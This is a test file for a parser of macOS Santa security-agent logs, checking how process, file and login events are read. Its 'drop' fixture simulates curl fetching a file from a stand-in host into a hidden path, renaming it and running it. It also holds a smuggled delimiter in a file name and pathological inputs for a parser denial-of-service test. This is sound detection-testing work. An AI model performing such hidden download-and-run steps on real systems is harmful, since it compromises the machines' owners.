import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { EventOf, TelemetryEvent } from "@limpid/core";
import { describe, expect, it, test } from "vitest";
import { corpusPath } from "../../../../../tests/support/corpus.ts";
import { processorMs } from "../../../../../tests/support/processor-time.ts";
import { accountedFor, readLog } from "../../testing/read.ts";
import { SANTA_AD_HOC, SantaMessages } from "../../testing/santa-messages.ts";
import { recogniseSource } from "../index.ts";
import { santa } from "./source.ts";

const samples = corpusPath("telemetry", "santa");

function events(log: string): readonly TelemetryEvent[] {
  return readLog(santa, log).events.filter(({ kind }) => kind !== "account.named");
}

function of<K extends TelemetryEvent["kind"]>(told: readonly TelemetryEvent[], kind: K): readonly EventOf<K>[] {
  return told.filter((event): event is EventOf<K> => event.kind === kind);
}

/** curl brings a file under a hidden name, it is renamed and run, as a person's shell asks for it. */
function drop(messages: SantaMessages): SantaMessages {
  const shell = messages.running("/bin/zsh", { tty: "/dev/ttys003" });
  const curl = messages.spawn(shell, "/usr/bin/curl", ["curl", "-o", "/tmp/.a", "https://x.example"]);
  messages.close(curl, "/private/tmp/.a").exit(curl).rename(shell, "/private/tmp/.a", "/private/tmp/agent");
  messages.spawn(shell, "/private/tmp/agent", ["agent"], { signature: SANTA_AD_HOC, tty: undefined });
  return messages;
}

describe("a drop, as JSON", () => {
  const told = events(drop(new SantaMessages({ machine: "mac-7" })).log);

  it("tells it in order", () =>
    expect(told.map(({ kind }) => kind)).toEqual([
      "process.forked",
      "process.executed",
      "file.written",
      "process.exited",
      "file.renamed",
      "process.forked",
      "process.executed",
    ]));

  it("tells each process by pid and pidversion", () =>
    expect(of(told, "process.executed")).toMatchObject([
      {
        host: "mac-7",
        time: expect.stringMatching(/\.\d{9}Z$/),
        image: "/usr/bin/curl",
        argv: ["curl", "-o", "/tmp/.a", "https://x.example"],
        argvComplete: true,
        file: { path: "/usr/bin/curl", sha256: "ab".repeat(32) },
        process: {
          pid: 601,
          ppid: 600,
          sensorId: "601:1202",
          formerSensorId: "601:1201",
          parentSensorId: "600:1200",
          responsible: { pid: 600, sensorId: "600:1200" },
          terminal: "ttys003",
          cwd: "/Users/dev",
          signing: { status: "platform" },
        },
      },
      {
        image: "/private/tmp/agent",
        process: { terminal: null, signing: { status: "ad-hoc", cdHash: "22".repeat(20) } },
      },
    ]));

  it("follows the file by its inode", () => {
    const [written] = of(told, "file.written");
    const [renamed] = of(told, "file.renamed");
    expect(written).toMatchObject({ finished: true, file: { path: "/private/tmp/.a", device: "16777234" } });
    expect(renamed?.to).toEqual({ ...renamed?.from, path: "/private/tmp/agent" });
    expect(renamed?.to.inode).toBe(written?.file.inode);
    expect(of(told, "process.executed")[1]?.file.inode).toBe(written?.file.inode);
  });
});

describe("a drop, as text", () => {
  const messages = drop(new SantaMessages({ text: true, machine: "mac-7" }));
  const told = events(messages.log);

  it("tells the same, by pid", () => {
    expect(told.map(({ kind }) => kind)).toEqual(events(drop(new SantaMessages()).log).map(({ kind }) => kind));
    expect(told.every((event) => event.host === "mac-7")).toBe(true);
    expect(told.some((event) => "process" in event && event.process.sensorId !== undefined)).toBe(false);
    expect(of(told, "process.forked")[0]).toMatchObject({ process: { pid: 600 }, child: 601 });
    expect(of(told, "process.executed")[0]).toMatchObject({
      argv: ["curl", "-o", "/tmp/.a", "https://x.example"],
      argvComplete: false,
      process: { pid: 601, ppid: 600, uid: 501 },
      file: { path: "/usr/bin/curl", sha256: "ab".repeat(32) },
    });
    expect(of(told, "file.renamed")).toMatchObject([
      { from: { path: "/private/tmp/.a" }, to: { path: "/private/tmp/agent" }, process: { image: "/bin/zsh" } },
    ]);
  });

  it("is read inside a shipper's record, behind a syslog header and with carriage returns", () => {
    const quoted = messages.lines.map((message) => JSON.stringify({ host: "x", message })).join("\n");
    expect(events(quoted)).toEqual(told);
    expect(events(messages.lines.map((line) => `Nov 22 07:00:00 mac santad[77]: ${line}\r\n`).join(""))).toEqual(told);
    expect(recogniseSource(quoted)?.name).toBe("santa");
    expect(santa.startsAt(messages.log)).toBe(Date.UTC(2026, 10, 22, 7, 0, 0, 7));
  });

  it("takes the bar inside a name for what it is", () => {
    const log = new SantaMessages({ text: true });
    log.close(log.running("/bin/sh"), "/tmp/a|path=b");
    expect(events(log.log)).toMatchObject([{ file: { path: "/tmp/a|path=b" } }]);
  });

  it("takes nothing from a line that only quotes one", () => {
    const line = JSON.stringify({ note: messages.lines[1] }, null, 2);
    expect(readLog(santa, line).counts).toMatchObject({ recordsUsed: 0 });
  });
});

describe.each([false, true])("what happens to a file, text: %s", (text) => {
  const messages = new SantaMessages({ text });
  const process = messages.running("/bin/cp");

  test.each([
    { name: "unlink", say: () => messages.unlink(process, "/tmp/a"), made: { kind: "file.removed" } },
    {
      name: "link",
      say: () => messages.link(process, "/tmp/a", "/tmp/b"),
      made: { kind: "file.linked", to: { path: "/tmp/b" } },
    },
    {
      name: "clone",
      say: () => messages.copy(process, "clone", "/tmp/a", "/tmp/c"),
      made: { kind: "file.copied", to: { path: "/tmp/c" } },
    },
    {
      name: "copyfile",
      say: () => messages.copy(process, "copyfile", "/tmp/a", "/tmp/d"),
      made: { kind: "file.copied", from: { path: "/tmp/a" } },
    },
    {
      name: "mapped",
      say: () => messages.close(process, "/tmp/a", false),
      made: { kind: "file.written", finished: true },
    },
  ])("$name", ({ say, made }) => {
    messages.lines.length = 0;
    say();
    expect(events(messages.log)).toMatchObject([made]);
  });

  it("an execution that was denied did not happen", () => {
    messages.lines.length = 0;
    messages.exec(process, "/tmp/x", ["x"], { decision: "DENY" });
    expect(readLog(santa, messages.log).counts).toMatchObject({ recordsUsed: 0, ignored: { "execution-denied": 1 } });
  });

  it("a line given twice is told once", () => {
    messages.lines.length = 0;
    messages.close(process, "/tmp/a").close(process, "/tmp/b");
    expect(readLog(santa, messages.log + messages.log).counts).toMatchObject({
      recordsUsed: 2,
      skipped: { duplicate: 2 },
    });
  });

  it("names the account once", () => {
    messages.lines.length = 0;
    messages.close(process, "/tmp/e").close(process, "/tmp/f");
    expect(readLog(santa, messages.log).events).toMatchObject([
      { kind: "account.named", uid: 501, name: "dev" },
      { kind: "file.written" },
      { kind: "file.written" },
    ]);
  });
});

describe("JSON only", () => {
  const messages = new SantaMessages();
  const process = messages.running("/bin/zsh");

  it("says whether a rename replaced a file", () => {
    messages.close(process, "/tmp/old").close(process, "/tmp/new").rename(process, "/tmp/new", "/tmp/old");
    expect(of(events(messages.log), "file.renamed")).toMatchObject([{ replaced: { path: "/tmp/old" } }]);
  });

  it("keeps arguments that are not UTF-8, and a script apart from its interpreter", () => {
    messages.lines.length = 0;
    messages.exec(process, "/bin/bash", ["/bin/bash", "./x"], { script: "/tmp/x.sh" });
    const [line = ""] = messages.lines;
    const [executed] = of(events(line.replace(Buffer.from("./x").toString("base64"), "//8=")), "process.executed");
    expect(executed).toMatchObject({
      argv: ["/bin/bash", "\udcff\udcff"],
      argvComplete: true,
      file: { path: "/tmp/x.sh" },
      interpreters: [{ path: "/bin/bash" }],
    });
    expect(of(events(line.replace(/"args":\[/, '"args":["?",')), "process.executed")[0]?.argvComplete).toBe(false);
  });

  it("keeps inodes above 2^53 exact, and accounts below zero", () => {
    messages.lines.length = 0;
    messages.close(process, "/tmp/z");
    const log = messages.log.replace(/"ino":"\d+"/, '"ino":"1152921500312443765"').replaceAll('"uid":501', '"uid":-2');
    expect(events(log)).toMatchObject([
      { file: { inode: 1152921500312443765n, ownerUid: 4294967294 }, process: { uid: 4294967294 } },
    ]);
  });

  it("tells the processes of another boot apart", () => {
    const fresh = new SantaMessages();
    const shell = fresh.running("/bin/zsh");
    const [one, two] = fresh.close(shell, "/tmp/1").close(shell, "/tmp/2").lines;
    const log = `${one}\n${two?.replace(/"boot_session_uuid":"[^"]*"/, '"boot_session_uuid":"FFFFFFFF-0"')}\n`;
    expect(of(events(log), "file.written").map((event) => event.process.sensorId)).toEqual([
      "600:1200",
      "600:1200@FFFFFFFF",
    ]);
  });

  it("counts what it does not read by name, also what is newer than it", () => {
    messages.lines.length = 0;
    messages.say(process, "file_access", { policy_name: "x" }).say(process, "not_yet_thought_of", {});
    expect(readLog(santa, messages.log).counts.ignored).toEqual({ file_access: 1, "other-event": 1 });
  });

  it("tells what a compiler made as a file, without a writer", () => {
    messages.lines.length = 0;
    const hash = { type: "HASH_ALGO_SHA256", hash: "EF".repeat(32) };
    messages.say(process, "allowlist", { target: { path: "/Users/dev/a.out", hash } });
    const text = `[2026-11-22T07:00:00.007Z] I santad: action=ALLOWLIST|pid=5|pidversion=6|path=/Users/dev/a.out|sha256=${"ef".repeat(32)}\n`;
    for (const log of [messages.log, text]) {
      expect(events(log)).toMatchObject([
        { kind: "file.reported", file: { path: "/Users/dev/a.out", sha256: "ef".repeat(32) } },
      ]);
    }
  });

  it("tells logins", () => {
    messages.lines.length = 0;
    const user = { uid: 501, name: "dev" };
    const instigator = { id: { pid: 9, pidversion: 8 }, executable: { path: "/usr/sbin/sshd" } };
    messages
      .say(process, "open_ssh", { login: { instigator, result: "RESULT_AUTH_SUCCESS", user } })
      .say(process, "open_ssh", { login: { instigator, result: "RESULT_INVALID_USER", user } })
      .say(process, "login_window_session", { logout: { instigator, user } });
    const log = messages.log.replaceAll(/"instigator":\{"id":\{"pid":600.*?"truncated":false\}\},/g, "");
    expect(events(log)).toMatchObject([
      { kind: "session.opened", account: "dev", program: "/usr/sbin/sshd", succeeded: true },
      { kind: "session.opened", succeeded: false },
      { kind: "session.closed", account: "dev" },
    ]);
  });
});

test("hostile lines cost linear time", () => {
  const bars = `[2026-11-22T07:00:00.000Z] I santad: action=EXEC${"|pid=1".repeat(500_000)}`;
  const brackets = `${"[".repeat(1_000_000)}] I santad: action=EXEC`;
  const nested = `{"execution":${'{"instigator":'.repeat(60)}1${"}".repeat(61)}`;
  const begin = processorMs();
  readLog(santa, `${bars}\n${brackets}\n${nested}\n`);
  expect(processorMs() - begin).toBeLessThan(2000);
});

describe.skipIf(samples === undefined)("Santa's own test messages", () => {
  const read = (name: string) => readFileSync(join(samples ?? "", `santa_v8_${name}.json`), "latin1");
  const names = samples === undefined ? [] : readdirSync(samples).filter((name) => name.endsWith(".json"));

  it.each(names)("%s: known, and each has its place", (name) => {
    const log = readFileSync(join(samples ?? "", name), "latin1");
    expect(recogniseSource(log)?.name).toBe("santa");
    const { counts } = readLog(santa, log);
    expect(accountedFor(counts)).toBe(counts.linesRead);
    expect(counts.linesRead).toBe(1);
  });

  test.each([
    {
      name: "close",
      event: "close",
      made: { kind: "file.written", file: { path: "close_file", inode: 304, sizeBytes: 306 } },
    },
    { name: "copyfile", event: "copyfile", made: { kind: "file.copied", from: { path: "source" } } },
    { name: "exit", event: "exit", made: { kind: "process.exited", code: 1 } },
    { name: "fork", event: "fork", made: { kind: "process.forked", child: 12 } },
    { name: "link", event: "link", made: { kind: "file.linked", to: { path: "target_dir/target_file", inode: 304 } } },
    { name: "rename", event: "rename", made: { kind: "file.renamed", replaced: undefined } },
    { name: "unlink", event: "unlink", made: { kind: "file.removed", file: { path: "unlink_file" } } },
    {
      name: "exec",
      event: "execution",
      made: {
        kind: "process.executed",
        argv: ["exec_path", "-l", "--foo"],
        process: {
          pid: 23,
          uid: 4294967294,
          cwd: "cwd",
          signing: { status: "platform", cdHash: "41".repeat(20), teamId: "my_team_id" },
        },
        file: { path: "script.sh" },
        interpreters: [{ path: "fooexec" }],
      },
    },
  ])("$name, in its envelope", ({ name, event, made }) => {
    const envelope = { event_time: "2026-11-22T07:00:00.5Z", processed_time: "2026-11-22T07:00:01Z" };
    const log = JSON.stringify({ ...envelope, [event]: JSON.parse(read(name)) });
    expect(events(log)).toMatchObject([made]);
    const bare = events(read(name));
    // A fork and an exit that stand alone say no time, and no file whose time could do.
    if (name === "fork" || name === "exit") expect(bare).toEqual([]);
    else expect(bare).toMatchObject([made]);
  });
});
